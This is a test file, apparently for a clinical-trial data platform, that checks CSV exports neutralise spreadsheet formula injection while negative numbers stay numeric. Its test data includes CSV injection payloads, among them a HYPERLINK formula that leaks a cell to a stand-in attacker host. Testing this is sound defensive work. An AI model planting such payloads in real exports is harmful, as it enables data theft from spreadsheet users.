/**
 * Issue 15 item 7, end to end: text that a spreadsheet would run as a formula leaves the platform
 * neutralised (a leading ') in every CSV of a dataset, negative numbers stay numbers, the
 * dictionary says so, and load.R gives the original text back.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { WorkerProcess } from '../apps/worker/src/worker';
import { DATASET_FILES, restoreCell } from '@trialdata/datasets';
import { STUDY_DEFINITIONS, loadStudies, type StudyDefinition } from '@trialdata/protocol';
import { setUpWorld, type World } from './support/fixtures';
import { startApi, type TestApi } from './support/harness';
import { waitFor } from './support/wait';
import { startTestWorker } from './support/worker';

/** A test-only study with one free-text field and one signed number. */
const CSVSTUDY: StudyDefinition = {
  code: 'CSVSTUDY',
  title: 'CSV injection test study',
  design: 'rct',
  timeZone: 'Europe/Amsterdam',
  languages: ['nl', 'en'],
  anchor: { kind: 'randomisation' },
  arms: [
    { code: 'A', title: 'Arm A', ratio: 1 },
    { code: 'B', title: 'Arm B', ratio: 1 },
  ],
  randomisation: { method: 'minimisation', probability: 0.8, factors: [{ id: 'sex', label: 'Sex', options: ['female', 'male'] }] },
  requiresPlannedAnchorDate: false,
  eligibility: [{ id: 'inc_consent', kind: 'inclusion', text: 'Signed informed consent' }],
  schedule: [{ id: 'baseline', title: 'Baseline', offsetDays: 0, windowBefore: 0, windowAfter: 3, forms: ['notes'], instruments: [] }],
  forms: [
    {
      id: 'notes',
      title: 'Notes',
      repeating: false,
      fields: [
        { id: 'remark', label: '=Remark (label)', type: 'text', required: false, maxLength: 500 },
        { id: 'delta', label: 'Change', type: 'decimal', precision: 1, required: false, min: -100, max: 100 },
      ],
    },
  ],
  reminders: { reminderDays: [2], coordinatorTaskDaysBeforeClose: 1 },
};

const NASTY = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  'plain text',
];

let api: TestApi;
let world: World;
let worker: WorkerProcess;
const files = new Map<string, Buffer>();

beforeAll(async () => {
  api = await startApi({ studies: loadStudies([...STUDY_DEFINITIONS, CSVSTUDY]) });
  world = await setUpWorld(api);
  worker = await startTestWorker(api);
  for (const [i, remark] of NASTY.entries()) {
    const enrolled = await api.request('POST', '/studies/CSVSTUDY/participants', {
      token: world.tokens['coordinator.LUMC'],
      body: {
        siteCode: 'LUMC',
        eligibility: { inc_consent: true },
        consent: { date: '2026-11-20', version: '1.0' },
        birthYear: 1970,
        sex: 'female',
      },
    });
    expect(enrolled.status, JSON.stringify(enrolled.body)).toBe(201);
    const saved = await api.request('PUT', `/participants/${enrolled.body.id}/events/baseline/forms/notes`, {
      token: world.tokens['coordinator.LUMC'],
      body: { values: { remark, delta: -(i + 1.5) }, status: 'incomplete' },
    });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
  }
  const created = await api.request('POST', '/studies/CSVSTUDY/datasets', {
    token: world.tokens.data_manager,
    body: { kind: 'interim', reason: 'CSV injection test' },
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const id = created.body.datasetId ?? created.body.id;
  await waitFor(`dataset ${id}`, async () => {
    const list = await api.request<any[]>('GET', '/studies/CSVSTUDY/datasets', { token: world.tokens.data_manager });
    const d = list.body.find((x) => x.id === id);
    if (d?.status === 'failed') throw new Error('dataset build failed');
    return d?.status === 'ready';
  });
  for (const name of DATASET_FILES) {
    const res = await fetch(`${api.url}/datasets/${id}/files/${name}`, {
      headers: { authorization: `Bearer ${world.tokens.data_manager}` },
    });
    expect(res.status).toBe(200);
    files.set(name, Buffer.from(await res.arrayBuffer()));
  }
}, 180_000);

afterAll(async () => {
  await worker?.close();
  await api?.close();
});

const csv = (name: string) =>
  parse(files.get(name)!.toString('utf8'), { columns: true, relax_column_count: false }) as Record<string, string>[];
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV injection (item 7)', () => {
  it('neutralises formula-like text in data.csv and data-long.csv, and leaves negative numbers as numbers', () => {
    const wide = csv('data.csv');
    const remarks = wide.map((r) => r.baseline_notes_remark);
    expect(remarks.sort()).toEqual(NASTY.map((v) => (/^'*[=+\-@\t\r]/.test(v) ? `'${v}` : v)).sort());
    expect(remarks.every((r) => !FORMULA.test(r))).toBe(true);
    expect(remarks.map(restoreCell).sort()).toEqual([...NASTY].sort());
    const deltas = wide.map((r) => Number(r.baseline_notes_delta));
    expect(deltas.every((d) => Number.isFinite(d) && d < 0)).toBe(true);

    const long = csv('data-long.csv');
    const longRemarks = long.filter((r) => r.field === 'remark').map((r) => r.value);
    expect(longRemarks).toHaveLength(NASTY.length);
    expect(longRemarks.every((r) => !FORMULA.test(r))).toBe(true);
    expect(long.filter((r) => r.field === 'delta').every((r) => /^-\d/.test(r.value))).toBe(true);
  });

  it('never lets any cell of any CSV start a formula, the dictionary and audit trail included, and the dictionary says so', () => {
    for (const name of DATASET_FILES.filter((n) => n.endsWith('.csv'))) {
      const rows = parse(files.get(name)!.toString('utf8')) as string[][];
      for (const row of rows)
        for (const cell of row)
          if (FORMULA.test(cell)) expect(Number.isFinite(Number(cell)), `${name}: ${JSON.stringify(cell)}`).toBe(true);
    }
    const dictionary = csv('dictionary.csv');
    const remark = dictionary.find((r) => r['Variable / Field Name'] === 'baseline_notes_remark')!;
    expect(remark['Field Label']).toBe("'=Remark (label)");
    expect(remark['Field Note']).toMatch(/leading ' \(OWASP CSV injection rule\)/);
    const audit = csv('audit.csv');
    expect(audit.some((r) => r.to.includes('HYPERLINK'))).toBe(true);
  });

  it.skipIf(!existsSync('/usr/bin/Rscript'))('load.R restores the original text and keeps numbers numeric', () => {
    const dir = mkdtempSync(join(tmpdir(), 'security-csv-'));
    try {
      for (const [name, body] of files) writeFileSync(join(dir, name), body);
      const out = execFileSync(
        '/usr/bin/Rscript',
        [
          '-e',
          [
            'source("load.R")',
            'cat(paste(vapply(data$baseline_notes_remark, function(x) paste(utf8ToInt(x), collapse = "."), ""), collapse = "|"), "\\n")',
            'cat(class(data$baseline_notes_delta), all(data$baseline_notes_delta < 0), "\\n")',
            'cat(sum(data_long$value %in% data$baseline_notes_remark), "\\n")',
          ].join('; '),
        ],
        { cwd: dir, encoding: 'utf8' },
      );
      const [codes, numeric, long] = out.trim().split('\n');
      const restored = codes
        .trim()
        .split('|')
        .map((s) => String.fromCodePoint(...s.split('.').map(Number)));
      // read.csv reads a CR inside a quoted cell as LF (R's doing, apostrophe or not).
      expect(restored.sort()).toEqual(NASTY.map((v) => v.replace(/\r/g, '\n')).sort());
      expect(numeric.trim()).toBe('numeric TRUE');
      expect(Number(long.trim())).toBe(NASTY.length);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('load.do and load.sps remove the same leading apostrophe from text columns', () => {
    const doFile = files.get('load.do')!.toString('utf8');
    expect(doFile).toContain(
      `replace baseline_notes_remark = usubstr(baseline_notes_remark, 2, .) if ustrregexm(baseline_notes_remark, "^'+[-=+@\\t\\r]")`,
    );
    expect(doFile).not.toMatch(/replace baseline_notes_delta = usubstr/);
    const sps = files.get('load.sps')!.toString('utf8');
    expect(sps).toContain(
      `IF (CHAR.SUBSTR(baseline_notes_remark, 1, 1) = "'" AND CHAR.INDEX(X'3D2B2D40090D', CHAR.SUBSTR(LTRIM(baseline_notes_remark, "'"), 1, 1)) > 0) baseline_notes_remark = CHAR.SUBSTR(baseline_notes_remark, 2).`,
    );
  });
});
